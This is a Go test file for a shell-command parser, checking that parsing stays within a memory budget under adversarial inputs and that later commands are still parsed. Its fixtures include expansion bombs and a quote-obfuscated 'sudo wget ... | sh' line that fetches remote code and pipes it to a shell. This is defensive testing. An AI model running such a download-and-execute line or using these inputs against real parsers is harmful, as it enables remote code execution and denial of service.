package shell

import (
	"fmt"
	"go/ast"
	"go/importer"
	"go/parser"
	gotoken "go/token"
	"go/types"
	"os"
	"runtime"
	"slices"
	"strings"
	"testing"
)

// makers are the functions of the standard library that make text, or lists of it, as
// large as their arguments.
var makers = map[string][]string{
	"strings": {"Builder", "Clone", "Fields", "FieldsFunc", "Join", "Map", "NewReplacer", "Repeat", "Replace", "ReplaceAll", "Split", "SplitAfter",
		"SplitAfterN", "SplitN", "Title", "ToLower", "ToTitle", "ToUpper", "ToValidUTF8"},
	"strconv": {"Quote", "QuoteToASCII", "AppendQuote", "Unquote"},
	"slices":  {"Concat", "Repeat"},
	"bytes":   nil, "fmt": nil, "regexp": nil, "encoding/base32": nil, "encoding/base64": nil, "encoding/hex": nil, // whatever it is
}

// TestOnlyTheBudgetMakesText: a function that makes or copies text has the budget as its
// receiver or a parameter, and pays.
func TestOnlyTheBudgetMakesText(t *testing.T) {
	fset := gotoken.NewFileSet()
	var files []*ast.File
	entries, err := os.ReadDir(".")
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range entries {
		if !strings.HasSuffix(e.Name(), ".go") || strings.HasSuffix(e.Name(), "_test.go") {
			continue
		}
		f, err := parser.ParseFile(fset, e.Name(), nil, 0)
		if err != nil {
			t.Fatal(err)
		}
		files = append(files, f)
	}
	info := &types.Info{Types: map[ast.Expr]types.TypeAndValue{}, Uses: map[*ast.Ident]types.Object{}}
	// The full parser's code is not checked: it gives nodes, whose text is not copied.
	config := types.Config{Importer: importer.ForCompiler(fset, "source", nil), Error: func(error) {}}
	_, _ = config.Check("shell", fset, files, info)
	paying := 0
	for _, f := range files {
		for _, d := range f.Decls {
			fn, ok := d.(*ast.FuncDecl)
			if !ok || fn.Body == nil {
				continue
			}
			made := texts(info, fn.Body)
			if len(made) == 0 {
				continue
			}
			if !takesBudget(fn) || !pays(fn.Body) {
				t.Errorf("%v: %s makes text without paying for it: %s", fset.Position(made[0].Pos()), fn.Name.Name, types.ExprString(made[0].(ast.Expr)))
			}
			paying++
		}
	}
	if paying < 10 {
		t.Errorf("only %d functions make text: the test does not see them", paying)
	}
}

// texts returns the expressions in a body that make text.
func texts(info *types.Info, body ast.Node) []ast.Node {
	var out []ast.Node
	is := func(e ast.Expr, want func(types.Type) bool) bool {
		tv, ok := info.Types[e]
		return ok && tv.Value == nil && tv.Type != nil && want(tv.Type.Underlying())
	}
	isText := func(t types.Type) bool {
		b, ok := t.(*types.Basic)
		return ok && b.Info()&types.IsString != 0
	}
	isBytes := func(t types.Type) bool {
		s, ok := t.(*types.Slice)
		if !ok {
			return false
		}
		b, ok := s.Elem().Underlying().(*types.Basic)
		return ok && (b.Kind() == types.Uint8 || b.Kind() == types.Int32)
	}
	ast.Inspect(body, func(n ast.Node) bool {
		switch n := n.(type) {
		case *ast.BinaryExpr:
			if n.Op == gotoken.ADD && is(n, isText) {
				out = append(out, n)
			}
		case *ast.AssignStmt:
			if n.Tok == gotoken.ADD_ASSIGN && is(n.Lhs[0], isText) {
				out = append(out, n.Lhs[0])
			}
		case *ast.SelectorExpr:
			if x, ok := n.X.(*ast.Ident); ok {
				if p, ok := info.Uses[x].(*types.PkgName); ok {
					if names, ok := makers[p.Imported().Path()]; ok && (names == nil || slices.Contains(names, n.Sel.Name)) {
						out = append(out, n)
					}
				}
			}
		case *ast.CallExpr:
			if len(n.Args) == 0 {
				break
			}
			last := n.Args[len(n.Args)-1]
			if tv, ok := info.Types[n.Fun]; ok && tv.IsType() && is(n, func(t types.Type) bool { return isText(t) || isBytes(t) }) &&
				is(last, func(t types.Type) bool { return isText(t) || isBytes(t) }) {
				out = append(out, n) // string(b), []byte(s), []rune(s)
			}
			if f, ok := n.Fun.(*ast.Ident); ok && f.Name == "append" && n.Ellipsis.IsValid() && is(last, func(t types.Type) bool { return isText(t) || isBytes(t) }) {
				out = append(out, n)
			}
		}
		return true
	})
	return out
}

func takesBudget(fn *ast.FuncDecl) bool {
	lists := []*ast.FieldList{fn.Recv, fn.Type.Params}
	for _, l := range lists {
		if l == nil {
			continue
		}
		for _, f := range l.List {
			if s := types.ExprString(f.Type); s == "*budget" || s == "*writer" {
				return true
			}
		}
	}
	return false
}

// pays reports whether a body asks the budget before anything else.
func pays(body ast.Node) bool {
	found := false
	ast.Inspect(body, func(n ast.Node) bool {
		if s, ok := n.(*ast.SelectorExpr); ok && s.Sel.Name == "spend" {
			found = true
		}
		return !found
	})
	return found
}

// free are texts whose expansion, or the walk over it, once cost nothing, or far more than
// was counted. They repeat their parts as often as a size allows.
var free = []struct{ name, before, repeated string }{
	{"replacement", "a=" + strings.Repeat("x", 32<<10) + ";", "b=${a//x/yyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyy};"},
	{"one replacement each", "a=" + strings.Repeat("x", 32<<10) + ";", "b=${a/x/y};"},
	{"no replacement", "a=" + strings.Repeat("x", 32<<10) + ";", "b=${a//z/y};"},
	{"replacement as argument", "a=" + strings.Repeat("x", 16<<10) + ";", "b ${a//x/" + strings.Repeat("y", 250) + "};"},
	{"upper case", "a=" + strings.Repeat("x", 32<<10) + ";", "b=${a^^};"},
	{"lower case", "a=" + strings.Repeat("X", 32<<10) + ";", "b=${a,,};"},
	{"words", "a='" + strings.Repeat("x ", 16<<10) + "';", "set -- $a;"},
	{"words of one command", "a='" + strings.Repeat("x ", 8<<10) + "';b ", "$a "},
	{"words before options", "a='" + strings.Repeat("-x ", 8<<10) + "';wget ", "$a "},
	{"separators", "IFS=" + strings.Repeat("é", 16<<10) + ";a=" + strings.Repeat("x", 16<<10) + ";", "b $a;"},
	{"array", "a=(" + strings.Repeat("x ", 8<<10) + ");", "b=${a[@]};"},
	{"assignments", "a=" + strings.Repeat("x", 32<<10) + ";", "b=$a;"},
	{"appended", "", "a+=" + strings.Repeat("x", 64) + ";"},
	{"defaults", "a=" + strings.Repeat("x", 32<<10) + ";", "${b:-$a} ${a:-b} ${a:+c};"},
	{"read", "a=" + strings.Repeat("x", 32<<10) + ";echo $a|read ", "a "},
	{"blank file", "echo '" + strings.Repeat(" ", 32<<10) + "'>f;", "sh f;"},
	{"table", "echo '" + strings.Repeat("* ", 16<<10) + "'>f;", "crontab f;"},
	{"formats", "printf %" + strings.Repeat("-", 32<<10) + "c ", "'' "},
	{"substitution by sed", "echo " + strings.Repeat("x", 32<<10), "|sed s/x/" + strings.Repeat("y", 60) + "/g"},
	{"braces", "", "{" + strings.Repeat("x", 4<<10) + ",b}{c,d}{e,f}{g,h}{i,j} "},
	{"long option", "wget -", "x"},
	{"options", "curl ", "-" + strings.Repeat("x", 30) + " "},
	{"exported", strings.Repeat("A=1 ", 4<<10) + "b ", "A=2 "},
	{"here-strings", "a=" + strings.Repeat("x", 16<<10) + ";", "cat<<<$a;"},
	{"decoded", "a=" + strings.Repeat("x", 16<<10) + ";", "echo $a|base64 -d;"},
	{"reversed", "a=" + strings.Repeat("\xff", 16<<10) + ";", "echo $a|rev;"},
	{"pipelines in pipelines", strings.Repeat("{ ", 120), "a|b;" + strings.Repeat("}|c;", 1)},
	{"code", "a='" + strings.Repeat("system(\"x\")", 2<<10) + "';", "python -c \"$a\";"},
	{"words of substitutions", "", "$(" + strings.Repeat("x ", 1<<10)},
	{"words of layers", "sh -c '" + strings.Repeat("x ", 60<<10) + "';", "eval 'x x x x x x';"},
	{"texts for the full parser", "", "`a&&`"},
	{"tokens", "", "a|b&&"},
	{"split by env", "a='" + strings.Repeat("x ", 8<<10) + "';", "env -S \"$a\" b;"},
}

func freeText(i, size int) string {
	c := &free[i]
	n := max((size-len(c.before))/len(c.repeated), 1)
	return c.before + strings.Repeat(c.repeated, n)
}

// mostMade bounds what one parse may allocate: words, copies, the tree of the
// full parser and the list of commands.
const mostMade = 13 << 20

// TestNothingIsFree: what a text makes the parser allocate is bounded, whatever it
// repeats, and the result says if anything was left out.
func TestNothingIsFree(t *testing.T) {
	for i, c := range free {
		t.Run(c.name, func(t *testing.T) {
			for _, size := range []int{64 << 10, 1 << 20} {
				text := freeText(i, size)
				p := NewParser(Limits{})
				p.panics = true
				if made := allocated(func() { p.View(text) }); made > mostMade {
					t.Errorf("%d bytes of text allocate %.1f MiB", len(text), float64(made)/(1<<20))
				}
			}
		})
	}
}

// allocated returns the bytes that do allocates; others may allocate too.
func allocated(do func()) uint64 {
	least := ^uint64(0)
	for range 3 {
		var before, after runtime.MemStats
		runtime.ReadMemStats(&before)
		do()
		runtime.ReadMemStats(&after)
		least = min(least, after.TotalAlloc-before.TotalAlloc)
	}
	return least
}

// TestSpentBudgetKeepsPlainCommands: a text that has used up its budget says so, and the
// commands after it are still parsed.
func TestSpentBudgetKeepsPlainCommands(t *testing.T) {
	for i, c := range free {
		if !strings.HasSuffix(c.repeated, ";") {
			continue
		}
		text := freeText(i, 64<<10)
		text = text[:min(len(text), 60<<10)]
		text = text[:strings.LastIndexByte(text, ';')+1] + "sudo w'g'et   -q \"http://x/a\"|sh"
		s := NewParser(Limits{}).Parse(text)
		n := len(s.Commands)
		if n >= 4096 {
			continue
		}
		if n < 2 || s.Commands[n-2].Line != "wget -q http://x/a" || fmt.Sprint(s.Commands[n-2].PipesTo) != "[sh]" {
			t.Errorf("%s: %d commands, the last but one is %.80q", c.name, n, s.Commands[max(n-2, 0)].Line)
		}
	}
	for _, name := range []string{"replacement", "upper case", "words", "assignments", "array", "read", "blank file", "table", "formats", "separators"} {
		i := slices.IndexFunc(free, func(c struct{ name, before, repeated string }) bool { return c.name == name })
		if !NewParser(Limits{}).Parse(freeText(i, 64<<10)).Bounded {
			t.Errorf("%s: what was left out is not said", name)
		}
	}
}
